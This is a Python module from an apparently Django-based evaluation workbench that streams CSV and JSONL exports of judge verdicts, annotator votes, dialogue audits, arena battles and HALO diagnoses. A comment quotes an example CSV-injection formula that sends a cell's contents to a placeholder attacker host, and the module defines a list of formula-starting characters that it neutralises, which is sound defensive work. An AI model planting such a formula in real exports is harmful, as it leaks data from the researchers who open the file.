"""CSV and JSONL writing, and the raw exports: every judgment, every vote (an answer in any
human study) and every dialogue audit with its checklist.

CSV is RFC 4180: UTF-8 without a byte-order mark, a header row, CRLF line ends, fields quoted
when they hold a comma, a quote or a line break (quotes doubled). Values: integers as digits,
floats in Python's shortest round-trip form (``float(text)`` gives the value back exactly), booleans
``true``/``false``, timestamps ISO 8601 in UTC, missing/undefined (NULL, NaN) as an empty field;
text that a spreadsheet would evaluate as a formula gets a leading ``'`` (``csv_text``).
JSONL: one JSON object per line, the same keys, ``null`` for missing.

Raw exports stream: rows come from ``QuerySet.iterator(chunk_size=…)`` (a server-side cursor
on PostgreSQL) and leave as chunks of a few hundred lines, so memory stays flat whatever the
row count. Column names are stable and documented in docs/exports.md.
"""

from __future__ import annotations

import csv
import io
import json
import math
import operator
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import datetime
from itertools import islice
from typing import Any

import numpy as np
from django.db.models import (
    Case,
    CharField,
    Exists,
    FloatField,
    OuterRef,
    QuerySet,
    Value,
    When,
)
from django.db.models.functions import Coalesce

from annotation import kinds
from annotation.kinds.dialogue_audit import AUDIT_CHECK_KEYS, DialogueAudit
from annotation.kinds.halo import HaloDiagnosis
from annotation.models import Answer, RetractionReason, Study
from annotation.selectors import study_battles
from annotation.services.battles import BATTLE_FIELDS, battle_record
from benchmark.models import Judgment
from benchmark.vocabulary import (
    OTHER_ISSUES,
    OVER_PROACTIVE,
    UNDER_PROACTIVE,
    VERDICT_SCORES,
    restraint_of,
)
from stats import proposal_exports
from stats.tables import Column, Table

CHUNK_ROWS = 500
DB_CHUNK = 2000


def _plain(value: Any) -> Any:
    """NumPy scalars as Python ones (``repr(np.float64(1.0))`` is not ``1.0``)."""
    return value.item() if isinstance(value, np.generic) else value


# A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that begins with one of
# these as a formula: an annotator's note ``=HYPERLINK("http://evil.example/?"&B2,"Click")``
# would run on the researcher's machine. OWASP's rule ("CSV Injection"): such a text cell gets
# a leading single quote, which every spreadsheet shows as text and does not evaluate.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Text that is wholly a plain decimal number (``-0.25``, ``+3``, ``-1e-05``) is left as it is:
# a spreadsheet reads it as that number, evaluates nothing, and the value stays intact.
_NUMERIC_TEXT = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_text(text: str) -> str:
    """``text`` made safe for a spreadsheet: a leading ``'`` if it would start a formula."""
    if text.startswith(FORMULA_STARTS) and not _NUMERIC_TEXT.fullmatch(text):
        return "'" + text
    return text


def csv_value(value: Any) -> str:
    """One CSV field. Every CSV the Workbench writes passes through here (``csv_chunks``), so
    this is the one place where text is neutralised; numbers are written as numbers (a
    negative one stays ``-0.25``), only ``str`` values are escaped (``csv_text``)."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return "" if math.isnan(value) else repr(value)
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, str):
        return csv_text(value)
    return str(value)


def json_value(value: Any) -> Any:
    value = _plain(value)
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, datetime):
        return value.isoformat()
    return value


# The fast path of ``csv_chunks``: a raw export writes millions of fields, and calling
# ``csv_value`` on each was most of its time. So each chunk is looked at a column at a time,
# with loops that run in C (``zip``, ``map``, ``set``): a column whose values the csv module
# already writes as ``csv_value`` would — None as an empty field, an int as its digits, a float
# other than NaN as its repr, a text that cannot start a formula as itself — passes untouched,
# a column of timestamps is formatted in one pass, and only the rest goes through
# ``csv_value`` value by value. Which path a column takes is decided per chunk from the
# values themselves, so the output is exactly ``csv_value``'s whatever the column holds.
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # every formula start is one character
_FIRST_CHARACTER = operator.itemgetter(slice(0, 1))


def _csv_column(column: tuple[Any, ...]) -> Iterable[Any]:
    types = set(map(type, column))
    has_none = type(None) in types
    types.discard(type(None))
    if types <= {int}:
        return column
    if types == {str}:
        if set(map(_FIRST_CHARACTER, filter(None, column))).isdisjoint(_FORMULA_FIRST):
            return column
        return [csv_text(v) if v else v for v in column]
    if types == {float} and not any(map(math.isnan, filter(None, column))):
        return column
    if types == {datetime} and not has_none:
        return list(map(datetime.isoformat, column))
    return list(map(csv_value, column))


def _csv_rows(chunk: list[Any]) -> Iterable[Iterable[Any]]:
    columns = list(zip(*chunk, strict=True))
    if not columns:  # no rows, or rows without fields
        return chunk
    return zip(*map(_csv_column, columns), strict=True)


# JSON lines: one encoder for every line (``json.dumps`` with options builds a new one per
# call); values JSON writes as ``json_value`` would pass untouched (bool is among them: it is
# written true/false either way).
_JSON_LINE = json.JSONEncoder(ensure_ascii=False)
_JSON_AS_IS = frozenset({int, str, bool})


def csv_chunks(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text in chunks of ``CHUNK_ROWS`` lines (the header first)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    iterator = iter(rows)
    while True:
        chunk = list(islice(iterator, CHUNK_ROWS))
        writer.writerows(_csv_rows(chunk))
        text = buffer.getvalue()
        if text:
            yield text
        buffer.seek(0)
        buffer.truncate()
        if len(chunk) < CHUNK_ROWS:
            return


def jsonl_chunks(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    iterator = iter(rows)
    while True:
        chunk = list(islice(iterator, CHUNK_ROWS))
        if chunk:
            yield "".join(
                _JSON_LINE.encode(
                    {
                        k: v if v is None or type(v) in _JSON_AS_IS else json_value(v)
                        for k, v in zip(header, row, strict=True)
                    }
                )
                + "\n"
                for row in chunk
            )
        if len(chunk) < CHUNK_ROWS:
            return


def table_csv(table: Table) -> str:
    names = table.column_names
    return "".join(csv_chunks(names, ([row.get(n) for n in names] for row in table.rows)))


# --- Raw exports ------------------------------------------------------------------------------


@dataclass(frozen=True)
class RawExport:
    """A raw export: its columns (stable names, documented in docs/exports.md) and a function
    that yields one tuple per row, in column order, from ``filters`` (e.g. ``{"run": 3}``), whose
    keys are among ``filters`` (the query parameters it understands)."""

    name: str
    description: str
    columns: tuple[Column, ...]
    rows: Callable[[dict[str, Any]], Iterator[tuple]]
    filters: tuple[str, ...] = ("run",)
    # Checks ``filters`` before anything is streamed: raises LookupError (no such thing: a
    # 404) or ValueError (it cannot be exported: a 400), with a message saying why.
    check: Callable[[dict[str, Any]], None] | None = None
    # An export whose rows are one query's fields as they are (``rows`` is their
    # ``values_list``): the queryset and the field names, from which PostgreSQL writes the CSV
    # itself (``stats.csv_copy``); None where Python builds the rows.
    query: Callable[[dict[str, Any]], tuple[QuerySet, tuple[str, ...]]] | None = None

    @property
    def header(self) -> list[str]:
        return [c.name for c in self.columns]


RAW_EXPORTS: dict[str, RawExport] = {}


def register_raw_export(export: RawExport) -> None:
    """Add a raw export; the API and the dashboard's links pick it up from here (its columns
    belong in docs/exports.md). ``judgments``, ``votes``, ``audits`` and ``halo`` are registered
    below:
    the annotation app's exports live on this side because the statistics app may read the
    annotation app, never the other way round."""
    if export.name in RAW_EXPORTS:
        raise ValueError(f"raw export {export.name!r} is already registered")
    RAW_EXPORTS[export.name] = export


def _c(name: str, kind: str, description: str) -> Column:
    return Column(name, kind, description)


JUDGMENT_COLUMNS = (
    _c("judgment_id", "int", "The judgment's id."),
    _c("run_id", "int", "The evaluation run."),
    _c("run_name", "str", "The run's name."),
    _c("unit_id", "int", "The reply (evaluation unit) judged."),
    _c("dialogue", "str", "The dialogue's unique_id_eval."),
    _c("turn", "int", "The trigger turn (1-based)."),
    _c("trigger_type", "str", "EMERGENT, CRITICAL, RECOVERY or INTERVENTION."),
    _c("model", "str", "The model's endpoint handle."),
    _c("model_display", "str", "The model's display name."),
    _c("condition", "str", "vanilla or rubric_injected."),
    _c("sample_index", "int", "Which sample of the trigger (0 unless a run draws several)."),
    _c("unit_state", "str", "The reply's state: done, error, missing, ..."),
    _c("judge", "str", "The judge's handle."),
    _c("judgment_state", "str", "done or judge_error."),
    _c("verdict", "str", "PASS, PARTIAL or FAIL; empty on a judge error."),
    _c("score", "float", "1, 0.5 or 0; empty on a judge error."),
    _c("evidence_status", "str", "exact, close, not_found or none (the quote checked)."),
    _c("evidence_found_share", "float", "Share of the quote's fragments found in the reply."),
    _c("attempts", "int", "Times the judge was asked."),
    _c("rationale", "str", "The judge's rationale."),
    _c("evidence", "str", "The judge's evidence quote, verbatim."),
    _c("error", "str", "Why the judgment failed, if it did."),
    _c("adjudicated_verdict", "str", "A person's final verdict on this reply, if adjudicated."),
    _c("created_at", "str", "When the judgment was stored (ISO 8601, UTC)."),
)


JUDGMENT_FIELDS = (
    "id",
    "unit__run_id",
    "unit__run__name",
    "unit_id",
    "unit__trigger__turn__dialogue__unique_id_eval",
    "unit__trigger__turn__index",
    "unit__trigger__type",
    "unit__endpoint__name",
    "unit__endpoint__display_name",
    "unit__condition",
    "unit__sample_index",
    "unit__state",
    "judge_name",
    "state",
    "verdict",
    "export_score",
    "evidence_status",
    "evidence_found_share",
    "attempts",
    "rationale",
    "evidence",
    "error",
    "export_adjudicated",
    "created_at",
)


def judgment_query(filters: dict[str, Any]) -> tuple[QuerySet, tuple[str, ...]]:
    # The score and the empty adjudication come from the database, so its rows leave as they
    # are fetched, in column order (no tuple rebuilt per row), and PostgreSQL can write the
    # whole CSV itself (stats.csv_copy).
    score = Case(
        *(When(verdict=verdict, then=Value(value)) for verdict, value in VERDICT_SCORES.items()),
        default=None,
        output_field=FloatField(),
    )
    queryset = Judgment.objects.order_by("id").annotate(
        export_score=score,
        export_adjudicated=Coalesce(
            "unit__disagreement__final_verdict", Value(""), output_field=CharField()
        ),
    )
    if filters.get("run") is not None:
        queryset = queryset.filter(unit__run_id=filters["run"])
    return queryset, JUDGMENT_FIELDS


def judgment_rows(filters: dict[str, Any]) -> Iterator[tuple]:
    queryset, fields = judgment_query(filters)
    return queryset.values_list(*fields).iterator(chunk_size=DB_CHUNK)


register_raw_export(
    RawExport(
        name="judgments",
        description="Every judgment: one row per judge per reply, with the reply's context.",
        columns=JUDGMENT_COLUMNS,
        rows=judgment_rows,
        query=judgment_query,
    )
)


# --- Votes and audits (the annotation app's answers) ------------------------------------------

VOTE_COLUMNS = (
    _c("answer_id", "int", "The answer's id."),
    _c("study_id", "int", "The study."),
    _c("study_name", "str", "The study's name."),
    _c(
        "study_kind",
        "str",
        "The study's kind (a registered kind's key: pairwise, dialogue_audit, adjudication, "
        "direct_rating, failure_mode, ...).",
    ),
    _c("study_source", "str", "created (in the Workbench) or imported (from the release)."),
    _c("run_id", "int", "The run the study's items come from; empty for audits and imports."),
    _c("item_id", "int", "The study item."),
    _c(
        "item_key",
        "str",
        "The item's key: `unique_id_eval#t<turn>#<model>[#<condition>]`, the dialogue's "
        "unique_id_eval (audits) or the release's item_id (imported).",
    ),
    _c("is_gold", "bool", "A gold item (a quality check with an expected answer)."),
    _c("expected", "str", "Gold items: the expected label."),
    _c("dialogue", "str", "The dialogue's unique_id_eval, where known."),
    _c("turn", "int", "The trigger turn (1-based)."),
    _c("trigger_type", "str", "EMERGENT, CRITICAL, RECOVERY or INTERVENTION."),
    _c("model", "str", "The rated reply's model (endpoint handle)."),
    _c(
        "unit_id",
        "int",
        "The rated reply; for a pair, Case A (the vanilla reply), or an arena item's side A.",
    ),
    _c("unit_b_id", "int", "Pairwise: Case B (the rubric-injected reply); arena: side B."),
    _c(
        "condition",
        "str",
        "The rated reply's condition; for a pair, vanilla (Case A), or side A's.",
    ),
    _c("rater_id", "int", "The rater: one per person per study."),
    _c("annotator", "str", "The rater's username, or the release's annotator_id."),
    _c("rater_excluded", "bool", "The study excludes this rater from statistics (now)."),
    _c("role", "str", "annotate, or adjudicate (the third auditor of a split audit)."),
    _c(
        "label",
        "str",
        "The answer, normalised: pairwise A (vanilla) / B (rubric-injected) / tie, de-swapped; "
        "arena model_a / model_b / tie / tie (bothbad) for side A against B, de-swapped; audits "
        "pass / fail; verdicts PASS / PARTIAL / FAIL; a failure mode's name.",
    ),
    _c(
        "position_chosen",
        "str",
        "Pairwise and arena: the screen position chosen, 1, 2, tie (or arena bothbad).",
    ),
    _c(
        "display_order",
        "str",
        "What was on screen, in order, separated by |: a pair's cases (B|A: Response 1 was "
        "Case B); an adjudication's judge handles (Judge A's first).",
    ),
    _c("injected_on_left", "bool", "Pairwise: the rubric-injected reply was Response 1."),
    _c("suggested", "str", "Failure modes: the heuristic's suggested label."),
    _c("suggestion_changed", "bool", "Failure modes: the annotator changed the suggestion."),
    _c("confidence", "int", "Confidence 1-5, where asked."),
    _c("note", "str", "The reason, rationale or note."),
    _c("time_on_item_s", "float", "Seconds on the item."),
    _c("started_at", "str", "When the item was put on screen (ISO 8601, UTC)."),
    _c("submitted_at", "str", "When the answer was submitted."),
    _c("received_at", "str", "When the server got it (imported: as recorded)."),
    _c("retracted", "bool", "Withdrawn (see retraction_reason): it counts in no statistic."),
    _c(
        "retraction_reason",
        "str",
        "undo; lapsed (arrived after the item went to someone else); superseded (imported: "
        "a later rating replaced it).",
    ),
    _c("retracted_at", "str", "When it was withdrawn."),
    _c("late", "bool", "Arrived after the item went to someone else (retraction_reason lapsed)."),
    _c(
        "verdict_revealed_at",
        "str",
        "Direct rating: when the judge's verdict on the item was shown to the rater, after "
        "this answer (which is then final); empty if it never was.",
    ),
    _c(
        "verdict_seen_before",
        "bool",
        "The rater had been shown the judge's verdict on this item before giving this answer "
        "(so it may echo the judge).",
    ),
)


def _answers(filters: dict[str, Any]):
    # Practice answers (training and qualification, docs/annotation.md) are never data.
    queryset = Answer.objects.filter(assignment__item__is_practice=False).order_by("id")
    if filters.get("run") is not None:
        queryset = queryset.filter(assignment__item__study__run_id=filters["run"])
    if filters.get("study") is not None:
        queryset = queryset.filter(assignment__item__study_id=filters["study"])
    return queryset


def _retraction(retracted_at, reason: str) -> tuple:
    return (retracted_at is not None, reason, retracted_at, reason == RetractionReason.LAPSED)


def vote_rows(filters: dict[str, Any]) -> Iterator[tuple]:
    earlier_reveal = Answer.objects.filter(
        assignment__item=OuterRef("assignment__item"),
        assignment__rater=OuterRef("assignment__rater"),
        verdict_revealed_at__lt=OuterRef("submitted_at"),
    )
    values = (
        _answers(filters)
        .annotate(verdict_seen_before=Exists(earlier_reveal))
        .values_list(
            "id",
            "assignment__item__study_id",
            "assignment__item__study__name",
            "assignment__item__study__kind",
            "assignment__item__study__source",
            "assignment__item__study__run_id",
            "assignment__item_id",
            "assignment__item__key",
            "assignment__item__is_gold",
            "assignment__item__expected",
            "assignment__item__dialogue__unique_id_eval",
            "assignment__item__trigger__turn__index",
            "assignment__item__trigger__type",
            "assignment__item__unit__endpoint__name",
            "assignment__item__unit_id",
            "assignment__item__unit_b_id",
            "assignment__item__unit__condition",
            "assignment__rater_id",
            "assignment__rater__user__username",
            "assignment__rater__external_id",
            "assignment__rater__excluded",
            "assignment__role",
            "label",
            "details",
            "display",
            "confidence",
            "note",
            "time_on_item_s",
            "started_at",
            "submitted_at",
            "received_at",
            "retracted_at",
            "retraction_reason",
            "verdict_revealed_at",
            "verdict_seen_before",
        )
    )
    for row in values.iterator(chunk_size=DB_CHUNK):
        kind, details, display = kinds.find(row[3]), row[23] or {}, row[24] or {}
        # The kind fills its own columns (StudyKind.vote_values); the rest stay empty.
        own = kind.vote_values(details, display) if kind is not None else {}
        yield (
            *row[:18],
            row[18] or row[19],  # the username, or the release's annotator_id
            *row[20:23],
            own.get("position_chosen", ""),
            "|".join(display.get("order") or []),
            own.get("injected_on_left"),
            own.get("suggested", ""),
            own.get("suggestion_changed"),
            *row[25:31],
            *_retraction(row[31], row[32]),
            row[33],
            row[34],
        )


AUDIT_COLUMNS = (
    _c("answer_id", "int", "The answer's id."),
    _c("study_id", "int", "The audit study."),
    _c("study_name", "str", "The study's name."),
    _c("item_id", "int", "The study item."),
    _c("dialogue", "str", "The dialogue's unique_id_eval."),
    _c("rater_id", "int", "The rater: one per person per study."),
    _c("annotator", "str", "The auditor's username."),
    _c("rater_excluded", "bool", "The study excludes this rater from statistics (now)."),
    _c("role", "str", "annotate (one of the two auditors) or adjudicate (the third, on a split)."),
    _c("decision", "str", "The overall decision: pass or fail."),
    _c("note", "str", "The overall note."),
    *(
        column
        for key in AUDIT_CHECK_KEYS
        for column in (
            _c(f"{key}_ok", "bool", f"Checklist {key}: yes (true) or no (false)."),
            _c(f"{key}_note", "str", f"Checklist {key}: the note."),
        )
    ),
    _c("item_outcome", "str", "The dialogue's audit outcome now: pass, fail, or empty (open)."),
    _c("dialogue_status", "str", "The dialogue's status now: in_audit, accepted, rejected, ..."),
    _c("time_on_item_s", "float", "Seconds on the item."),
    _c("started_at", "str", "When the dialogue was put on screen (ISO 8601, UTC)."),
    _c("submitted_at", "str", "When the answer was submitted."),
    _c("received_at", "str", "When the server got it."),
    _c("retracted", "bool", "Withdrawn (see retraction_reason): it decides nothing."),
    _c("retraction_reason", "str", "undo, or lapsed (arrived after the item went to another)."),
    _c("retracted_at", "str", "When it was withdrawn."),
    _c("late", "bool", "Arrived after the item went to someone else (retraction_reason lapsed)."),
)


def audit_rows(filters: dict[str, Any]) -> Iterator[tuple]:
    values = (
        _answers(filters)
        .filter(assignment__item__study__kind=DialogueAudit.key)
        .values_list(
            "id",
            "assignment__item__study_id",
            "assignment__item__study__name",
            "assignment__item_id",
            "assignment__item__dialogue__unique_id_eval",
            "assignment__rater_id",
            "assignment__rater__user__username",
            "assignment__rater__excluded",
            "assignment__role",
            "label",
            "note",
            "details",
            "assignment__item__outcome",
            "assignment__item__dialogue__status",
            "time_on_item_s",
            "started_at",
            "submitted_at",
            "received_at",
            "retracted_at",
            "retraction_reason",
        )
    )
    for row in values.iterator(chunk_size=DB_CHUNK):
        checks = (row[11] or {}).get("checks") or {}
        checklist = []
        for key in AUDIT_CHECK_KEYS:
            check = checks.get(key) or {}
            checklist += [check.get("ok"), check.get("note", "")]
        yield (*row[:11], *checklist, *row[12:18], *_retraction(row[18], row[19]))


register_raw_export(
    RawExport(
        name="votes",
        description="Every answer in every human study, retracted and late ones flagged.",
        columns=VOTE_COLUMNS,
        rows=vote_rows,
        filters=("run", "study"),
    )
)
register_raw_export(
    RawExport(
        name="audits",
        description="Every dialogue audit answer with its checklist.",
        columns=AUDIT_COLUMNS,
        rows=audit_rows,
        filters=("study",),
    )
)


# --- Battles (pairwise-like studies, in the Chatbot Arena format) -----------------------------

BATTLE_COLUMNS = (
    _c(
        "model_a",
        "str",
        "The source shown first (Response 1; an imported battle's model_a): the model's handle, "
        "with ` · <condition>` and ` · <run>` where the study compares several.",
    ),
    _c("model_b", "str", "The other source."),
    _c("winner", "str", "model_a, model_b, tie or tie (bothbad), for model_a against model_b."),
    _c("judge", "str", "The rater's username, or an imported battle's judge."),
    _c(
        "question_id",
        "str",
        "Where they met: the dialogue's unique_id_eval (an imported battle's question_id as "
        "given, a string or an integer; a release pairwise item's item_id without a dialogue).",
    ),
    _c("turn", "int", "The trigger turn (1-based), where known."),
    _c(
        "tstamp",
        "float",
        "When it was judged, Unix seconds (an imported battle's own tstamp, or empty).",
    ),
    _c("study_id", "int", "The study (a key the format does not have: importing ignores it)."),
)


def _battle_studies(filters: dict[str, Any]):
    studies = Study.objects.filter(kind__in=[k.key for k in kinds.all_kinds() if k.battles])
    if filters.get("study") is not None:
        studies = studies.filter(pk=filters["study"])
    return studies.order_by("pk")


def battle_check(filters: dict[str, Any]) -> None:
    if filters.get("study") is None:
        return
    study = Study.objects.filter(pk=filters["study"]).first()
    if study is None:
        raise LookupError(f"no study {filters['study']}")
    kind = kinds.find(study.kind)
    if kind is None or not kind.battles:
        readers = ", ".join(k.label.lower() for k in kinds.all_kinds() if k.battles)
        raise ValueError(
            f"study {study.pk} is a {study.get_kind_display().lower()} study: its answers are "
            f"not battles (only {readers} studies have them)"
        )


def battle_rows(filters: dict[str, Any]) -> Iterator[tuple]:
    """The battles of ``filters["study"]`` (else of every arena and pairwise study), in
    ``BATTLE_COLUMNS`` order; ``filters["include_excluded"]`` (``export_battles`` only) counts
    the raters a study excludes."""
    include_excluded = bool(filters.get("include_excluded"))
    for study in list(_battle_studies(filters)):
        for battle in study_battles(study=study, include_excluded=include_excluded):
            record = battle_record(battle)
            yield (*(record[field] for field in BATTLE_FIELDS), study.pk)


register_raw_export(
    RawExport(
        name="battles",
        description="Every battle of the arena and pairwise studies, in the Chatbot Arena "
        "battle format (live answers; raters the study excludes left out).",
        columns=BATTLE_COLUMNS,
        rows=battle_rows,
        filters=("study",),
        check=battle_check,
    )
)


# --- HALO diagnoses (issue #17) ---------------------------------------------------------------

HALO_COLUMNS = (
    _c("answer_id", "int", "The answer (one per annotator per checkpoint)."),
    _c("study_id", "int", "The HALO diagnosis study."),
    _c("study_name", "str", "The study's name."),
    _c("item_id", "int", "The study item (the checkpoint)."),
    _c(
        "checkpoint",
        "str",
        "The checkpoint's key: its imported checkpoint_id, or "
        "`unique_id_eval#t<turn>#<condition>` when made from a run.",
    ),
    _c("is_gold", "bool", "A gold checkpoint (a quality check)."),
    _c("rater_id", "int", "The rater: one per person per study."),
    _c("annotator", "str", "The rater's username."),
    _c("rater_excluded", "bool", "The study excludes this rater from statistics (now)."),
    _c("response", "str", "The reply at its checkpoint (r1, r2, … in the checkpoint's order)."),
    _c("position", "int", "Where the annotator saw it: Reply 1, 2, …"),
    _c("source", "str", "The reply's source (a model's handle)."),
    _c("unit_id", "int", "The reply's evaluation unit (made from a run), else empty."),
    _c("reasoning_tokens", "int", "The reply's reasoning tokens, where recorded."),
    _c("retrieval_rounds", "int", "The reply's retrieval rounds, where recorded."),
    _c("level", "str", "The action level the annotator settled on: L0, L1, L2 or L3."),
    _c("level_suggested", "str", "The pre-filled level (empty: none was inferred)."),
    _c("level_changed", "bool", "The annotator changed the pre-filled level."),
    _c("acceptable", "bool", "The annotator accepted the reply."),
    _c("restraint", "str", "L0 only, derived: inaction (rejected) or justified_restraint."),
    _c("timing", "str", "Rejected L1-L3: premature, belated or appropriate; else empty."),
    _c("intensity", "str", "Rejected L1-L3: insufficient, excessive or appropriate; else empty."),
    _c("over_proactive", "bool", "Rejected and premature or excessive."),
    _c("under_proactive", "bool", "Rejected and belated, insufficient or an inaction."),
    *(
        column
        for issue in OTHER_ISSUES
        for column in (
            _c(f"issue_{issue}", "bool", f"Other issue flagged: {issue} (rejected replies)."),
            _c(f"issue_{issue}_note", "str", f"The note on {issue}."),
        )
    ),
    _c("note", "str", "The annotator's note on the checkpoint."),
    _c("time_on_item_s", "float", "Seconds on the checkpoint (all its replies)."),
    _c("submitted_at", "str", "When the answer was submitted (ISO 8601, UTC)."),
    _c("retracted", "bool", "Withdrawn (see retraction_reason): it counts in no statistic."),
    _c("retraction_reason", "str", "undo, or lapsed (arrived after the item went to another)."),
)


def halo_rows(filters: dict[str, Any]) -> Iterator[tuple]:
    """One row per reply per answer: every answer of a HALO study, with each reply's fields."""
    values = (
        _answers(filters)
        .filter(assignment__item__study__kind=HaloDiagnosis.key)
        .values_list(
            "id",
            "assignment__item__study_id",
            "assignment__item__study__name",
            "assignment__item_id",
            "assignment__item__key",
            "assignment__item__is_gold",
            "assignment__rater_id",
            "assignment__rater__user__username",
            "assignment__rater__external_id",
            "assignment__rater__excluded",
            "assignment__item__payload__sources",
            "details",
            "note",
            "time_on_item_s",
            "submitted_at",
            "retracted_at",
            "retraction_reason",
        )
    )
    for row in values.iterator(chunk_size=DB_CHUNK):
        sources = {s["id"]: s for s in row[10] or []}
        for reply in (row[11] or {}).get("replies") or []:
            source = sources.get(reply.get("response")) or {}
            level, acceptable = reply.get("level", ""), bool(reply.get("acceptable"))
            restraint = restraint_of(level, acceptable)
            found = {reply.get("timing"), reply.get("intensity"), restraint} - {None, ""}
            issues = reply.get("issues") or {}
            yield (
                *row[:7],
                row[7] or row[8],
                row[9],
                reply.get("response", ""),
                reply.get("position"),
                source.get("source", ""),
                source.get("unit"),
                source.get("reasoning_tokens"),
                source.get("retrieval_rounds"),
                level,
                reply.get("suggested", ""),
                reply.get("level_changed"),
                acceptable,
                restraint,
                reply.get("timing", ""),
                reply.get("intensity", ""),
                not acceptable and bool(found & set(OVER_PROACTIVE)),
                not acceptable and bool(found & set(UNDER_PROACTIVE)),
                *(v for issue in OTHER_ISSUES for v in (issue in issues, issues.get(issue, ""))),
                row[12],
                row[13],
                row[14],
                row[15] is not None,
                row[16],
            )


register_raw_export(
    RawExport(
        name="halo",
        description="Every HALO diagnosis: one row per reply per answer, with its level, "
        "verdict, timing, intensity, other issues, source and effort.",
        columns=HALO_COLUMNS,
        rows=halo_rows,
        filters=("run", "study"),
    )
)


# --- Proposal review: every decision (stats/proposal_exports.py) -----------------------------

register_raw_export(
    RawExport(
        name="proposal-votes",
        description="Every accept / reject decision of every proposal-review answer, one row "
        "per proposal, with the proposal's source and screen position; retracted ones flagged.",
        columns=proposal_exports.VOTE_COLUMNS,
        rows=proposal_exports.votes_rows,
        filters=("study",),
        check=proposal_exports.votes_check,
    )
)
